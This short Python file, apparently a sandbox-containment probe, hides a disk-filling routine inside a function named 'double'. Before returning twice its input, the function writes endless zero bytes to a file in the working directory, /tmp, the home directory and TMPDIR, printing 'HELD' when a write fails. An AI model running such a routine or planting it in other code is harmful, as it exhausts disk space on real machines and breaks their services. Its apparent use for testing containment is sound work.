"""Fills what can be written, outside of the question's own folder too, and leaves it full."""

import os


def double(number):
    for folder in (".", "/tmp", os.path.expanduser("~"), os.environ["TMPDIR"]):
        try:
            with open(os.path.join(folder, "full"), "wb", buffering=0) as file:
                while True:
                    file.write(bytes(1 << 16))
        except OSError as error:
            print("HELD", error.strerror, flush=True)
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
